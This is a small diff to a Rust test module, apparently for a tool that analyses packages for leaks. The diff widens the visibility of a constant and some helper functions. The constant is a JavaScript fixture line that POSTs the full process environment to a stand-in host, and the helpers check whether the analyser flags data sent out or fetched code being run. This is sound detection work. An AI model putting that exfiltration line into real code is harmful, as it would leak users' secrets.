@@ -10,19 +10,19 @@ use super::run;
 use crate::command::{Reading, read, sources};
 use crate::{Facts, Limits, Package, SourceFile, analyse};
 
-const SENDS: &str =
+pub(super) const SENDS: &str =
     "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })";
 
-fn plain(text: &str) -> Reading {
+pub(super) fn plain(text: &str) -> Reading {
     read(text, &BTreeMap::new())
 }
 
-fn sent(text: &str) -> bool {
+pub(super) fn sent(text: &str) -> bool {
     let leaks = plain(text).leaks;
     leaks.iter().any(|leak| leak.sink != SinkKind::Process)
 }
 
-fn brought(text: &str) -> bool {
+pub(super) fn brought(text: &str) -> bool {
     plain(text).leaks.iter().any(|leak| {
         leak.sink == SinkKind::Process
             && matches!(leak.source.kind, SourceKind::Fetched | SourceKind::Decoded)
